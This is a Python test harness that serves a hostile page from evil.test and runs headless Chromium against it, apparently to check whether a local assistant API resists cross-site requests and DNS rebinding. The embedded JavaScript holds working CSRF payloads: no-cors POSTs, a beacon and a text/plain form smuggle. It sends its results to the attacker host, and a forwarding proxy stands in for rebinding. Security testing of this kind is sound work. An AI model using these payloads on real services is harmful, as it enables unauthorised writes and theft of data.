"""A hostile web site on this machine, and a real browser to visit it with."""

import json
import queue
import shutil
import socket
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
SITE = "evil.test"
_VISIT_S = 60.0
_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-dev-shm-usage",
]

WRITE = '{"model":"gpt-4o","name":"made by a page"}'
PAGE = """<!doctype html><title>hostile</title><script type="module">
const target = %(target)s, key = %(key)s, write = %(write)s, results = {};
const json = {"content-type": "application/json", "authorization": "Bearer " + key};
const patience = new Promise(done => setTimeout(done, 5000, "nothing came"));
async function attempt(name, act) {
  try { results[name] = String(await Promise.race([act(), patience])) } catch (problem) { results[name] = problem.name }
}
const read = async options => (await fetch(target + "/v1/assistants", options)).text();
const loaded = (tag, path) => new Promise(done => {
  const element = document.createElement(tag);
  element.onload = () => done("loaded");
  element.onerror = () => done("refused");
  element.src = target + path;
  document.body.append(element);
});
await attempt("read", () => read());
await attempt("read with a key", () => read({headers: json}));
await attempt("write", () => read({method: "POST", headers: json, body: write}));
await attempt("write as text", () => read({method: "POST", body: write}));
await attempt("write blindly", () => read({method: "POST", mode: "no-cors", body: write}));
await attempt("write blindly with a key", () => read({method: "POST", mode: "no-cors", headers: json, body: write}));
await attempt("beacon", () => navigator.sendBeacon(target + "/v1/assistants", write));
await attempt("image", () => loaded("img", "/v1/assistants"));
await attempt("script", () => loaded("script", "/v1/assistants"));
await attempt("script of health", () => loaded("script", "/health"));
await attempt("form", () => new Promise(done => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "hidden";
  form.method = "POST"; form.enctype = "text/plain"; form.target = "hidden"; form.action = target + "/v1/assistants";
  const field = document.createElement("input");
  field.name = write.slice(0, -2) + "="; field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  frame.onload = () => {
    try { done(frame.contentDocument.body.innerText) } catch (problem) { done("unreadable") }
  };
  form.submit();
}));
await new Promise(done => setTimeout(done, 300));
await fetch(%(report)s, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
</script><body></body>"""


class Site:
    """Serves the hostile page at its root; hands every other request to `victim`, if there is one.

    That is what DNS rebinding comes to: the page's own name now leads to the victim. Without a victim it keeps what
    comes, and allows everything.
    """

    def __init__(self, victim: str | None = None) -> None:
        self.reports: queue.Queue[dict[str, str]] = queue.Queue()
        self.seen: list[tuple[str, str, str]] = []
        self.page = ""
        self.victim = victim
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self) -> None:
                site.answer(self)

            do_GET = do_POST = do_OPTIONS = answer  # noqa: N815

            def log_message(self, *_: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def aim(self, target: str, key: str) -> None:
        """Make the page: what it attacks, and with which key."""
        report = f"http://{SITE}:{self.port}/report"
        given = {"target": target, "key": key, "write": WRITE, "report": report}
        self.page = PAGE % {name: json.dumps(value) for name, value in given.items()}

    def answer(self, request: BaseHTTPRequestHandler) -> None:
        body = request.rfile.read(int(request.headers.get("content-length", 0)))
        if request.path == "/report":
            self.reports.put(json.loads(body))
            _reply(request, b"", "text/plain")
        elif request.path == "/":
            _reply(request, self.page.encode(), "text/html")
        elif self.victim:
            request.wfile.write(_forwarded(self.victim, request, body))
            request.close_connection = True
        else:
            self.seen.append((request.command, request.path, body.decode()))
            _reply(request, b"[]", "text/javascript")

    def visit(self, browser: "Browser") -> dict[str, str]:
        """Let the browser open the page; return what the page got hold of."""
        with browser.open(f"http://{SITE}:{self.port}/"):
            return self.reports.get(timeout=_VISIT_S)


def _reply(request: BaseHTTPRequestHandler, body: bytes, kind: str) -> None:
    request.send_response(200)
    for name, value in {
        "content-type": kind,
        "content-length": str(len(body)),
        "access-control-allow-origin": "*",
        "access-control-allow-headers": "authorization, content-type",
    }.items():
        request.send_header(name, value)
    request.end_headers()
    request.wfile.write(body)


def _forwarded(victim: str, request: BaseHTTPRequestHandler, body: bytes) -> bytes:
    """Pass a request on as it is, its Host included, and return the raw answer."""
    place = urlsplit(victim)
    kept = [f"{name}: {value}" for name, value in request.headers.items() if name.lower() != "connection"]
    head = "\r\n".join([request.requestline, *kept, "connection: close", "", ""])
    with socket.create_connection((place.hostname, place.port), timeout=20) as connection:
        connection.sendall(head.encode("latin-1") + body)
        return b"".join(iter(lambda: connection.recv(65_536), b""))


class Browser:
    """Headless Chromium with a new profile, for which every name under .test is this machine."""

    def __init__(self, folder: Path) -> None:
        assert CHROMIUM
        rules = "--host-resolver-rules=MAP *.test 127.0.0.1"
        self._command = [CHROMIUM, *_FLAGS, f"--user-data-dir={folder}", rules]

    def open(self, url: str) -> "_Visit":
        """Open a page for as long as the context lasts."""
        return _Visit([*self._command, "--remote-debugging-port=0", url])

    def dump(self, url: str) -> str:
        """Return the document that a person sees who types an address."""
        done = subprocess.run([*self._command, "--dump-dom", url], capture_output=True, text=True, timeout=_VISIT_S)
        return done.stdout


class _Visit:
    def __init__(self, command: list[str]) -> None:
        self._command = command

    def __enter__(self) -> None:
        self._process = subprocess.Popen(self._command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def __exit__(self, *_: object) -> None:
        self._process.terminate()
        try:
            self._process.wait(10)
        except subprocess.TimeoutExpired:
            self._process.kill()
            self._process.wait()
